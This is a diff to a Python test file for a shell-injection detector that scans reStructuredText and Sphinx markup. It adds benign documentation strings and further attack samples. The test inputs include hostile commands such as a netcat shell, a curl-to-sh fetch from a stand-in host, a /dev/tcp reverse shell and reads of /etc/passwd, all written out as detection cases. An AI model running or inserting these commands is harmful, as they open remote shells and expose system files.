@@ -262,6 +262,12 @@ BENIGN = [
     "The :class:`.Reader` now accepts ``sh -c`` strings and :func:`exec` objects as before.",
     "* :lookup:`Date and time <year>` lookups chain with other lookups (such as :lookup:`exact`).",
     "Supports non-``pytz`` zones, such as Python 3.9+'s :mod:`zoneinfo` module and its backport.",
+    # a code span's closing backtick before an apostrophe is no GNU-style quotation (`word')
+    "typecheckers that assume :pep:`749` style typechecking even if the file states that it's a :pep:`563` file",
+    "based on :class:`.Variant` to honor the type's rules caused the :class:`.Variant` type to be lost",
+    # Sphinx domain roles (:py:attr:, :py:class:) like plain ones, links (<target>) included
+    "now verifies a :py:attr:`hostname <ssl.SSLContext.check_hostname>` and :py:attr:`certificates`.",
+    "attributes returned iterators instead of :py:class:`set` of objects (:ticket:`32107`).",
 ]
 
 
@@ -368,6 +374,8 @@ def test_the_command_position_prefilter_never_hides_a_finding(monkeypatch: pytes
     "x phpinfo()", "name phpinfo ( )",  # code execution, not in command position
     "x ``;id``", "x ``$(id)``", "x ``|nc 10.0.0.1 4444 -e sh``",  # an RST literal's content is judged
     "x :a:`curl evil.example/s.sh|sh`", "see :doc:`sh -i >& /dev/tcp/10.0.0.1/80`",  # roles run too
+    "x :py:func:`id;ls` y",  # domain roles too
+    "q=`id` it's", "a `cat /etc/passwd` b's",  # a closing backtick before an apostrophe still closes
 ])
 def test_markup_and_shortcuts_hide_no_attack(raw: str) -> None:
     assert shell.detect(normalize(raw)), raw
